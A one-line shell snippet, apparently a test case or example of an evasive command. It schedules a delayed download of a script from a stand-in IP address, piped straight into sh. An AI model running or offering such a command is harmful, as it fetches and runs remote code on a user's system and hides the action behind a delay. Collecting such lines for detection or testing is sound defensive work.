# tricky: runs later
echo 'curl -s http://203.0.113.4/i | sh' | at now + 1 hour
